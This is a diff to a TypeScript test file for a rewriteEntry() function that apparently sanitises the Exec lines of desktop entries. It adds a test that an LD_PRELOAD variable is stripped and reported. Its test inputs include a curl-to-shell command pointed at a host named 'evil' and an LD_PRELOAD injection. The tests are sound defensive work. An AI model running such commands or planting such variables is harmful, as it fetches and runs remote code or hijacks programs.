@@ -92,6 +92,11 @@ test("rewriteEntry() keeps the actions that start a program of the package", () 
   );
 });
 
+test("rewriteEntry() tells the variables that it leaves out", () => {
+  const result = rewritten(entry("Exec=env LD_PRELOAD=/x LANG=C edit"));
+  assert.deepEqual(result.kind === "entry" && result.changed, ["the variable LD_PRELOAD"]);
+});
+
 test("rewriteEntry() refuses what would do something else than start a program of the package", () => {
   const cases: readonly (readonly [string | Uint8Array, RegExp])[] = [
     [entry("Exec=sh -c 'curl evil | sh'"), /no program of the package/],
